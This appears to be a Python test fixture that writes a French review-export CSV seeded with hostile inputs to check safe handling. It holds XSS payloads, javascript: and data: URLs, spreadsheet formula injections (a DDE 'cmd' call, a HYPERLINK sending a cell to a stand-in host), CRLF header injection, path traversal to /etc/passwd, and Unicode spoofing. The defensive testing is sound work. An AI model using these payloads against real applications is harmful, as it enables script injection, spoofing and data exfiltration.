"""What an attacker would write where a patient writes a review, and what must not come of it."""

import csv
from pathlib import Path

SCRIPT = '<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><svg/onload=window.pwned=3>'
LINK = "[cliquez ici](javascript:window.pwned=4) ![vu](https://elsewhere.example/p.png)"
MARKDOWN = "# Énorme\n\n**gras** :red[rouge] :material/home: $x^2$ `code` <b>fort</b>"
BARE = "https://elsewhere.example/phish autre@elsewhere.example"
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1;"Voir")'
FORMULAS = (
    FORMULA,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
REVERSED = "Dr \u202egpj.exe\u202c fin"
HOMOGLYPH = "Dr Аnnе Аlbа"
CONTROL = "avant\x00après\x1b[31m\x07"
PATH = "../../../../etc/passwd"
HEADER = "nom\r\nSet-Cookie: pris=1\r\n\r\n<script>window.pwned=5</script>"
HUGE = "Très long. " * 180_000  # 2 MB

TEXTS = (SCRIPT, LINK, MARKDOWN, BARE, FORMULA, REVERSED, HOMOGLYPH, CONTROL, PATH, HEADER)
LEAKS = ("elsewhere.example", "window.pwned", "gpj.exe", "Énorme", "cmd|")
"""Parts of those texts that no log may quote."""


def export(path: Path, *, huge: bool = False) -> Path:
    """Write an export of reviews that carries every text as author, title, body, reply and link."""
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["date", "note", "auteur", "titre", "avis", "réponse", "lien"])
        for rank, text in enumerate((*TEXTS, *FORMULAS)):
            day = f"2026-11-{rank % 20 + 1:02d}"
            url = ("javascript:window.pwned=6", "data:text/html,<script>window.pwned=7</script>")[rank % 2]
            writer.writerow([day, rank % 2 + 1, text, text, f"{text} Attente.", text, url])
        if huge:
            writer.writerow(["2026-11-21", 1, "Le bavard", "Long", HUGE, "", ""])
    return path
